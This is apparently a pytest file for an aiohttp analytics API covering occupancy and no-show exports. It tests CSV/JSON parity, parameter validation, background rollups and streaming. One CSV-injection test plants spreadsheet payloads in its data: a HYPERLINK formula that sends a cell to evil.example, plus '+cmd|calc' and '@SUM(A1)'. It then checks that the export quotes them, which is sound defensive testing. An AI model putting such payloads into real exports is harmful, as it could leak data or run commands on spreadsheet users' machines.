"""The analytics routes over HTTP: the same figures as the store, CSV equal to JSON,
problem+json naming the bad parameter."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from typing import Any

import asyncpg
import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer

from api.app import make_app
from ikn_store.pool import create_pool
from ikn_store.tokens import create_token
from tests.helpers import api_settings, eventually, seed
from tests.test_analytics import build_fixture, occ, store

Client = TestClient[web.Request, web.Application]
MONTH = {"from": "2026-11-01", "to": "2026-11-30"}


@pytest.fixture
async def client(database_url: str) -> AsyncIterator[tuple[Client, dict[str, str]]]:
    await seed(database_url)
    pool = await create_pool(database_url, 2)
    try:
        async with pool.acquire() as conn:
            await build_fixture(conn)
            token = await create_token(conn, "fm", "facility_manager")
    finally:
        await pool.close()
    settings = {"IKN_DATABASE_URL": database_url, "IKN_ANALYTICS_INTERVAL_S": "0.2"}
    app = make_app(api_settings(settings))
    async with TestClient(TestServer(app)) as c:
        yield c, {"Authorization": f"Bearer {token}"}


async def _json(client: tuple[Client, dict[str, str]], path: str, **query: str) -> Any:
    c, auth = client
    response = await c.get(path, params=query, headers=auth)
    assert response.status == 200, await response.text()
    return await response.json()


def _csv_as_json_text(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _as_text(rows: list[dict[str, Any]]) -> list[dict[str, str]]:
    return [{k: "" if v is None else str(v) for k, v in r.items()} for r in rows]


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/api/v1/analytics/utilisation", {"level": "desk", "bucket": "day"}),
        ("/api/v1/analytics/utilisation", {"level": "agency", "bucket": "week"}),
        ("/api/v1/analytics/funnel", {"level": "building", "bucket": "day"}),
        ("/api/v1/analytics/environment", {"level": "zone", "bucket": "day"}),
        ("/api/v1/analytics/no-shows", {}),
    ],
)
async def test_csv_equals_json(
    client: tuple[Client, dict[str, str]], path: str, query: dict[str, str]
) -> None:
    body = await _json(client, path, **MONTH, **query)
    assert body["rows"], body
    c, auth = client
    by_accept = await c.get(path, params={**MONTH, **query}, headers={**auth, "Accept": "text/csv"})
    by_format = await c.get(path, params={**MONTH, **query, "format": "csv"}, headers=auth)
    for response in (by_accept, by_format):
        assert response.status == 200 and response.content_type == "text/csv"
        assert _csv_as_json_text(await response.text()) == _as_text(body["rows"])


async def test_utilisation_over_http(client: tuple[Client, dict[str, str]]) -> None:
    body = await _json(
        client, "/api/v1/analytics/utilisation", level="building", bucket="day", **MONTH
    )
    monday = next(r for r in body["rows"] if r["bucket"] == "2026-11-02")
    # d1 150 + d2 30 occupied minutes; 3 desks; bookings 180 + 15 (released at 14:15) + 60
    assert monday["place"] == "b1" and monday["desks"] == 3
    assert monday["occupied_minutes"] == 180 and monday["booked_minutes"] == 255
    assert monday["peak_occupied"] == 2


async def test_no_shows_by_person(client: tuple[Client, dict[str, str]]) -> None:
    body = await _json(client, "/api/v1/analytics/no-shows", **MONTH, building="b1")
    assert body["rows"][0] == {
        "person": "p2",
        "name": "Budi",
        "agency": "kemenkeu",
        "unit": "u",
        "booked": 1,
        "no_shows": 1,
        "no_show_rate": 1.0,
    }
    assert {r["person"]: r["no_shows"] for r in body["rows"]} == {"p1": 0, "p2": 1, "p3": 0}


async def test_the_background_job_rolls_up_new_bookings(
    client: tuple[Client, dict[str, str]], database_url: str
) -> None:
    """The app's refresher (every 0.2 s here) picks up a late reading; polled with a deadline."""
    path, query = "/api/v1/analytics/utilisation", {"level": "desk", "zone": "b1-f2-a", **MONTH}
    before = await _json(client, path, **query)
    assert before["rows"][0]["occupied_minutes"] == 0
    pool = await create_pool(database_url, 1)
    try:
        async with pool.acquire() as conn:  # d3 occupied 09:50 after all, free at 09:55
            await store(conn, "desk-d3", occ("09:50", True), occ("09:55", False))
    finally:
        await pool.close()
    after = await eventually(
        lambda: _json(client, path, **query), lambda b: b["rows"][0]["occupied_minutes"] > 0
    )
    assert after["rows"][0]["occupied_minutes"] == 5
    funnel = await _json(client, "/api/v1/analytics/funnel", level="building", **MONTH)
    assert funnel["rows"][0]["ghost_bookings"] == 0  # d3's booking was used after all


@pytest.mark.parametrize(
    ("query", "field", "reason"),
    [
        ({}, "from", "required"),
        ({**MONTH, "level": "room"}, "level", "desk, zone"),
        ({**MONTH, "bucket": "minute"}, "bucket", "15min"),
        ({**MONTH, "bucket": "15min"}, "bucket", "at most 7 days"),
        ({"from": "2026-11-30", "to": "2026-11-01"}, "to", "ends before"),
        ({"from": "2026-13-01", "to": "2026-11-01"}, "from", "YYYY-MM-DD"),
        ({**MONTH, "zone": "no spaces"}, "zone", "letters"),
        ({**MONTH, "format": "xml"}, "format", "json or csv"),
        ({**MONTH, "colour": "red"}, "colour", "unknown parameter"),
        ({**MONTH, "level": "agency", "building": "b1"}, "level", "campus-wide"),
    ],
)
async def test_bad_parameters_name_the_field(
    client: tuple[Client, dict[str, str]], query: dict[str, str], field: str, reason: str
) -> None:
    c, auth = client
    response = await c.get("/api/v1/analytics/utilisation", params=query, headers=auth)
    assert response.status == 400
    assert response.content_type == "application/problem+json"
    problem = await response.json()
    assert problem["invalid_params"][0]["name"] == field
    assert reason in problem["invalid_params"][0]["reason"]


async def test_environment_at_desk_level_and_unknown_places_are_refused(
    client: tuple[Client, dict[str, str]],
) -> None:
    c, auth = client
    response = await c.get(
        "/api/v1/analytics/environment", params={**MONTH, "level": "desk"}, headers=auth
    )
    assert response.status == 400
    assert (await response.json())["invalid_params"][0]["name"] == "level"
    response = await c.get(
        "/api/v1/analytics/utilisation", params={**MONTH, "floor": "nope"}, headers=auth
    )
    assert response.status == 404
    assert (await response.json())["invalid_params"][0]["name"] == "floor"


FORMULA_NAME = '=HYPERLINK("https://evil.example/?d="&A2,"Budi")'


async def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
    client: tuple[Client, dict[str, str]], database_url: str
) -> None:
    """OWASP's CSV injection rule on the no-shows and agency-level exports: a name or an
    agency starting with = + - @ is written with a leading quote; numbers stay numbers."""
    conn = await asyncpg.connect(database_url)
    try:
        await conn.execute(
            "UPDATE people SET name = $1, unit = '@SUM(A1)' WHERE id = 'p2'", FORMULA_NAME
        )
        await conn.execute("UPDATE zones SET agency = '+cmd|calc' WHERE id = 'b1-f1-a'")
        await conn.execute(  # the zone changed hands: roll its month up again
            "INSERT INTO analytics_dirty (zone_id, span) VALUES ('b1-f1-a', tstzrange($1, $2))",
            datetime(2026, 11, 1, tzinfo=UTC),
            datetime(2026, 12, 1, tzinfo=UTC),
        )
    finally:
        await conn.close()
    c, auth = client
    shows = await c.get(
        "/api/v1/analytics/no-shows", params={**MONTH, "format": "csv"}, headers=auth
    )
    rows = {r["person"]: r for r in _csv_as_json_text(await shows.text())}
    assert rows["p2"]["name"] == "'" + FORMULA_NAME
    assert rows["p2"]["unit"] == "'@SUM(A1)"
    assert rows["p2"]["no_shows"] == "1"  # numbers untouched
    query = {**MONTH, "level": "agency", "bucket": "week", "format": "csv"}

    async def agencies() -> set[str]:
        response = await c.get("/api/v1/analytics/utilisation", params=query, headers=auth)
        return {r["place"] for r in _csv_as_json_text(await response.text())}

    # the app's own refresher (every 0.2 s) may be the one that rolls the zone up again
    places = await eventually(agencies, lambda places: len(places) > 1)
    assert "'+cmd|calc" in places and "+cmd|calc" not in places


@pytest.mark.parametrize(
    "query",
    [
        {"level": "desk", "bucket": "day"},  # the rendered desk rows
        {"level": "zone", "bucket": "hour"},  # computed from the rollups
        {"level": "desk", "bucket": "hour"},  # computed from the raw tables
        {"level": "building", "bucket": "week", "building": "b1"},
    ],
    ids=lambda q: f"{q['level']}-{q['bucket']}",
)
@pytest.mark.parametrize("fmt", ["json", "csv"])
async def test_a_large_table_is_streamed_with_the_same_content(
    client: tuple[Client, dict[str, str]],
    monkeypatch: pytest.MonkeyPatch,
    query: dict[str, str],
    fmt: str,
) -> None:
    c, auth = client
    params = {**MONTH, **query, "format": fmt}
    whole = await c.get("/api/v1/analytics/utilisation", params=params, headers=auth)
    assert whole.status == 200 and "Transfer-Encoding" not in whole.headers
    # every table counts as large now: written from a cursor, chunk by chunk
    monkeypatch.setattr("api.analytics.handlers.STREAM_ROWS", 0)
    streamed = await c.get("/api/v1/analytics/utilisation", params=params, headers=auth)
    assert streamed.status == 200 and streamed.headers["Transfer-Encoding"] == "chunked"
    assert streamed.content_type == whole.content_type
    if fmt == "json":
        assert await streamed.json() == await whole.json()
        assert (await whole.json())["rows"]
    else:
        assert await streamed.text() == await whole.text()
